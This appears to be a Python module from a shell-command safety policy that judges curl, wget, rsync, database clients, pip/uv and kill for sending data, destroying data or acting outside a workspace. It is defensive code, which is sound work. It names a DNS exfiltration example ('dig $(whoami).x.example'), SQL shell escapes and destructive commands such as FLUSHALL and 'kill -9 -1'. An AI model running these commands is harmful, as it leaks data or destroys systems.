"""Requests, SQL, packages and signals: the programs whose arguments need reading to know what
they send or destroy, so a row can't say it. Requests ask when they send data (``curl -d``,
``wget --post-data``, ``http POST``) or put a value computed at run time into a name lookup or
a URL (``dig $(whoami).x.example``: the classic way out for data when only DNS leaves the
machine); database clients when their statements destroy data or change permissions, or can't
be seen (a file, a pipe); ``pip`` when it installs outside the workspace, ``uv`` and a venv's
own ``pip`` when they install into the workspace's virtualenv; ``kill`` of a process the line
did not start; ``crontab`` unless it lists.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from tools.base import Danger
from tools.shell_policy.paths import keeps_mode
from tools.shell_policy.walk import Call
from tools.shell_policy.words import MODERATE, SAFE, Verdict, Word, bad, canonical, opts, shorten

_SAFE_METHODS = frozenset({"GET", "HEAD", "OPTIONS"})
LOOKUPS = frozenset(
    """dig nslookup host drill kdig delv ping ping6 traceroute traceroute6 tracepath mtr arping fping whois nmap
    resolvectl getent""".split()
)
_REQUESTS = frozenset({"curl", "wget", "http", "https", "xh", "xhs", "aria2c"})  # the rest ask anyway
_COMPUTED = re.compile(r"\$\(|`|<\(")


def sends_runtime(c: Call, head: Word) -> Verdict:
    """A value computed at run time in a name lookup (any ``$``), or a command's output (``$(...)``,
    backticks) in what a network program sends."""
    prog = canonical(c.name)
    if prog in LOOKUPS:
        for w in c.args:
            if w.text is None and not w.procsub:
                return bad(f"puts a value computed at run time into a network lookup ({c.name} {w.show})")
    elif prog in _REQUESTS:
        for w in c.args:
            if w.text is None and _COMPUTED.search(w.raw):
                return bad(f"sends a value computed at run time over the network ({c.name} {w.show})")
    return SAFE


def _curl(c: Call) -> Verdict:
    o = opts(
        c.args, "AbcCdDeEFHKmoQrTtuUwxXyYzP",
        ("--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "--json", "--form",
         "--form-string", "--upload-file", "--request", "--output", "--output-dir", "--header", "--user",
         "--user-agent", "--referer", "--cookie", "--cookie-jar", "--dump-header", "--config", "--max-time",
         "--connect-timeout", "--retry", "--proxy", "--write-out", "--url", "--cacert", "--cert", "--key",
         "--resolve", "--mail-rcpt", "--mail-from", "--trace", "--trace-ascii", "--stderr", "--range"),
    )
    for method in o.values("-X", "--request"):
        if method.text is None or method.text.upper() not in _SAFE_METHODS:
            return bad(f"sends data over the network (curl -X {method.show})")
    senders = ["-F", "-T", "--json", "--form", "--form-string", "--upload-file", "--mail-rcpt"]
    if not o.has("-G", "--get"):
        senders += ["-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii"]
    for name, _ in o.flags:
        if name in senders:
            return bad(f"sends data over the network (curl {name})")
    if o.has("-K", "--config"):
        return bad("reads its options from a file it can't see (curl -K)")
    targets = o.values("-o", "--output", "--output-dir", "-D", "--dump-header", "-c", "--cookie-jar", "--trace",
                       "--trace-ascii", "--stderr")
    return c.targets_outside(targets, "curl -o")


def _wget(c: Call) -> Verdict:
    o = opts(
        c.args, "OPoaeUitTwQlADR",
        ("--output-document", "--directory-prefix", "--output-file", "--append-output", "--post-data",
         "--post-file", "--method", "--body-data", "--body-file", "--header", "--user-agent", "--execute",
         "--input-file", "--tries", "--timeout", "--user", "--password", "--level"),
    )
    for name, value in o.flags:
        if name in ("--post-data", "--post-file", "--body-data", "--body-file"):
            return bad(f"sends data over the network (wget {name})")
        if name == "--method" and (value is None or (value.text or "").upper() not in _SAFE_METHODS):
            return bad(f"sends data over the network (wget --method {value.show if value else ''})")
        if name in ("-e", "--execute") and (value is None or re.search(r"post|method|body", value.text or "?", re.I)):
            return bad("sends data over the network (wget -e)")
    targets = o.values("-O", "--output-document", "-P", "--directory-prefix", "-o", "--output-file", "-a",
                       "--append-output")
    return c.targets_outside(targets, "wget -O")


def _httpie(c: Call) -> Verdict:
    o = opts(c.args, "aApo", ("--auth", "--auth-type", "--print", "--output", "--session", "--verify", "--cert",
                                "--proxy", "--cert-key"))
    if o.has("--form", "-f", "--raw", "--multipart"):
        return bad(f"sends data over the network ({c.name} --form)")
    words = o.texts()
    if words and re.fullmatch(r"[A-Z]+", words[0]):
        if words[0] not in _SAFE_METHODS:
            return bad(f"sends data over the network ({c.name} {words[0]})")
        words = words[1:]
    for item in words[1:]:
        match = re.search(r"==|:=|=|:|@", item)
        if match and match.group(0) in (":=", "=", "@"):
            return bad(f"sends data over the network ({c.name} {shorten(item)})")
    return c.targets_outside(o.values("-o", "--output"), f"{c.name} -o")


def _is_remote(path: str) -> bool:
    return path.startswith("rsync://") or bool(re.match(r"[^/]*[^/\\]:", path))


def _rsync(c: Call) -> Verdict:
    o = opts(c.args, "efTB", ("--rsh", "--exclude", "--include", "--filter", "--files-from", "--exclude-from",
                                "--include-from", "--backup-dir", "--suffix", "--partial-dir", "--temp-dir",
                                "--log-file", "--password-file", "--port", "--bwlimit", "--chmod", "--chown",
                                "--timeout", "--link-dest", "--compare-dest", "--copy-dest"))
    for name, _ in o.flags:
        if name.startswith("--delete") or name in ("--remove-source-files", "--del"):
            return bad(f"deletes files ({c.name} {name})")
    if any(_is_remote(w.text or "") for w in o.pos):
        return bad(f"transfers files to or from a remote host ({c.name})")
    verdict = c.targets_outside(o.pos[-1:] if len(o.pos) > 1 else [], c.name)
    return keeps_mode(c, o.pos[:-1]) if verdict == MODERATE else verdict






_SQL_DESTROYS = re.compile(r"\b(DROP|TRUNCATE|DELETE|ALTER|UPDATE|REPLACE\s+INTO|FLUSHALL|FLUSHDB)\b", re.I)
_SQL_ACCESS = re.compile(r"\b(GRANT|REVOKE)\b", re.I)
_SQL_ESCAPES = re.compile(
    r"\\!|\\(?:i|ir|include|include_relative)\b|\bCOPY\b[^;]*\bPROGRAM\b|^\s*\.(?:shell|system|read|restore)\b",
    re.I | re.M,
)
_MONGO_DESTROYS = re.compile(
    r"drop\w*\s*\(|delete(?:One|Many)|\bremove\s*\(|update(?:One|Many)?\s*\(|replaceOne|findOneAnd\w+"
    r"|renameCollection"
)
_REDIS_DESTROYS = frozenset(
    {"FLUSHALL", "FLUSHDB", "DEL", "UNLINK", "SHUTDOWN", "CONFIG", "DEBUG", "SWAPDB", "RENAME", "SCRIPT",
     "FUNCTION", "EVAL", "EVALSHA", "SLAVEOF", "REPLICAOF", "MIGRATE", "ACL", "CLIENT", "MODULE"}
)


def _sql(client: str, text: str) -> Verdict:
    match = _SQL_DESTROYS.search(text)
    if match:
        return bad(f"runs SQL that destroys data ({client}: {' '.join(match.group(1).upper().split())})")
    match = _SQL_ACCESS.search(text)
    if match:
        return bad(f"runs SQL that changes permissions ({client}: {match.group(1).upper()})")
    match = _SQL_ESCAPES.search(text)
    if match:
        return bad(f"runs SQL that runs commands or files it can't see ({client}: {match.group(0).strip()})")
    return MODERATE


def _sql_client(c: Call, statements: list[Word], files: list[Word]) -> Verdict:
    """SQL from options, files, or standard input: DANGEROUS when destructive or unseen."""
    if files:
        return bad(f"runs SQL from a file it can't see ({c.name} {files[0].show})")
    for statement in statements:
        if statement.text is None:
            return bad(f"runs SQL built at run time ({c.name} {statement.show})")
        verdict = _sql(c.name, statement.text)
        if verdict[0] is Danger.DANGEROUS:
            return verdict
    if statements:
        return MODERATE
    stdin = c.stdin
    if stdin is not None and (stdin.kind != "text" or stdin.text is None):
        feed = f"{stdin.show or '...'} | {c.name}" if stdin.kind == "pipe" else f"{c.name} {stdin.show}"
        return bad(f"runs SQL it can't see ({shorten(feed)})")
    return _sql(c.name, stdin.text or "") if stdin is not None else MODERATE


def _psql(c: Call) -> Verdict:
    o = opts(c.args, "cfdhpUvoLPFRT", ("--command", "--file", "--dbname", "--host", "--port", "--username",
                                       "--set", "--variable", "--output", "--log-file", "--pset"))
    return _sql_client(c, o.values("-c", "--command"), o.values("-f", "--file"))


def _mysql(c: Call) -> Verdict:
    o = opts(c.args, "euhPDS", ("--execute", "--user", "--host", "--port", "--database", "--socket"))
    return _sql_client(c, o.values("-e", "--execute"), [])


def _sqlite(c: Call) -> Verdict:
    value_options = ("-cmd", "-init", "-separator", "-nullvalue", "-newline", "-mode", "-vfs", "-maxsize")
    o = opts(c.args, long={"--" + name[1:] for name in value_options}, dash_long=value_options)
    statements = o.values("-cmd", "--cmd") + o.pos[1:]
    return _sql_client(c, statements, o.values("-init", "--init"))


def _sqlcmd(c: Call) -> Verdict:
    o = opts(c.args, "QqiSdUP")
    return _sql_client(c, o.values("-Q", "-q"), o.values("-i"))


def _cqlsh(c: Call) -> Verdict:
    o = opts(c.args, "efuk", ("--execute", "--file", "--username", "--keyspace"))
    return _sql_client(c, o.values("-e", "--execute"), o.values("-f", "--file"))


def _clickhouse(c: Call) -> Verdict:
    o = opts(c.args, "qhud", ("--query", "--queries-file", "--host", "--user", "--database"))
    return _sql_client(c, o.values("-q", "--query"), o.values("--queries-file"))


def _mongosh(c: Call) -> Verdict:
    o = opts(c.args, "fup", ("--eval", "--file", "--username", "--password", "--host", "--port"))
    scripts = o.values("-f", "--file") + [w for w in o.pos if (w.text or "").endswith(".js")]
    if scripts:
        return bad(f"runs a script it can't see ({c.name} {scripts[0].show})")
    for code in o.values("--eval"):
        if code.text is None:
            return bad(f"runs code built at run time ({c.name} --eval)")
        match = _MONGO_DESTROYS.search(code.text) or _SQL_DESTROYS.search(code.text)
        if match:
            return bad(f"runs code that destroys data ({c.name}: {shorten(match.group(0))})")
    if c.stdin is not None and c.stdin.kind == "pipe":
        return bad(f"runs code it can't see ({c.name} reading a pipe)")
    return MODERATE


def _redis(c: Call) -> Verdict:
    o = opts(c.args, "hpanusrid", ("--user", "--pass", "--pattern", "--tls", "--cacert"))
    words = o.texts()
    if words and words[0].upper() in _REDIS_DESTROYS:
        return bad(f"runs a command that destroys data ({c.name}: {words[0].upper()})")
    if not words and c.stdin is not None and c.stdin.kind != "text":
        feed = f"{c.stdin.show or '...'} | {c.name}" if c.stdin.kind == "pipe" else f"{c.name} {c.stdin.show}"
        return bad(f"runs commands it can't see ({shorten(feed)})")
    return MODERATE


def judge_pip(c: Call) -> Verdict:
    o = opts(c.args, "tircefp", ("--target", "--prefix", "--root", "--index-url", "--extra-index-url", "--proxy",
                                   "--requirement", "--constraint", "--editable", "--python", "--cache-dir", "--log",
                                   "--src", "--find-links"))
    words = o.texts()
    sub = words[0] if words else ""
    if sub in ("install", "uninstall", "download", "sync"):
        if o.has("--user", "--break-system-packages", "--root", "--system"):
            flag = next(n for n, _ in o.flags if n in ("--user", "--break-system-packages", "--root", "--system"))
            return bad(f"installs packages outside the workspace ({c.name} {sub} {flag})")
        for target in o.values("-t", "--target", "--prefix"):
            if c.outside(target):
                return bad(f"installs packages outside the workspace ({c.name} {sub} --target {target.show})")
        return MODERATE
    return SAFE if sub in ("list", "show", "freeze", "check", "help", "inspect") else MODERATE


def _uv(c: Call) -> Verdict:
    words = opts(c.args, long=("--python", "--project", "--directory")).texts()
    if words[:1] == ["publish"]:
        return bad("publishes a package (uv publish)")
    if words[:1] in (["add"], ["remove"], ["sync"]) or words[:1] == ["pip"] and words[1:2] in (["install"], ["sync"]):
        return bad(f"{_INTO_VENV} (uv {' '.join(words[:2] if words[0] == 'pip' else words[:1])})")
    if words[:1] == ["pip"]:
        pip_args = c.args[[w.text for w in c.args].index("pip") + 1 :]
        return judge_pip(Call("uv pip", pip_args, c.stdin, c.scan))
    return MODERATE


_INTO_VENV = "installs packages into the workspace's virtualenv, whose site-packages Python runs at every start"
# A pip or python named by a path in the workspace: its virtualenv's (``.venv/bin/pip install x``).
_VENV_PROGRAM = re.compile(r"(?!/|~)(?:[^/]+/)*bin/(?:pip|python)[\d.]*")


def venv_install(c: Call, head: Word) -> Verdict:
    """Every command: ``.venv/bin/pip install x`` or ``venv/bin/python -m pip install x`` writes
    the workspace's site-packages, read-only in the sandbox unless approved."""
    path, words = head.text or "", [w.text or "" for w in c.args]
    if not _VENV_PROGRAM.fullmatch(path):
        return SAFE
    if "python" in path.rsplit("/", 1)[-1]:
        words = words[2:] if words[:2] == ["-m", "pip"] else []
    if words[:1] in (["install"], ["uninstall"]):
        return bad(f"{_INTO_VENV} ({path} {words[0]})")
    return SAFE


_OWN_JOB = re.compile(r'"?(\$!|\$\{!\}|\$\$|\$\{?\w+\}?)"?')


def _kill(c: Call) -> Verdict:
    """``kill -9 -1`` and ``kill -1`` signal every process; in ``kill -1 123``, -1 is SIGHUP. A
    literal PID is a process this line did not start (each command's processes end with it);
    ``%1``, ``$!`` and a variable holding it are its own."""
    texts = [w.text for w in c.args]
    if "-1" in texts[1:] or texts == ["-1"]:
        return bad("kills every process (kill -1)")
    o = opts(c.args, "sn", ("--signal",))
    groups = [w for w in c.args[1:] if re.fullmatch(r"-\d+", w.text or "")]  # after the signal: -PGID
    for target in [*o.pos, *groups]:
        if target.text is None:
            if _OWN_JOB.fullmatch(target.raw):
                continue
            return bad(f"signals processes found at run time (kill {target.show})")
        if re.fullmatch(r"-?\d+", target.text) and target.text != "0":
            return bad(f"signals a process it did not start (kill {target.show})")
    return MODERATE


# The programs this module judges, by name (``table.py`` gathers them).
RULES: dict[str, Callable[[Call], Verdict]] = {
    "psql": _psql, "mysql": _mysql, "sqlite3": _sqlite, "sqlcmd": _sqlcmd, "cqlsh": _cqlsh,
    "clickhouse-client": _clickhouse, "mongosh": _mongosh, "redis-cli": _redis,
    "curl": _curl, "wget": _wget, **dict.fromkeys(("http", "https", "xh", "xhs"), _httpie),
    "rsync": _rsync, "kill": _kill, "pip": judge_pip, "uv": _uv,
}
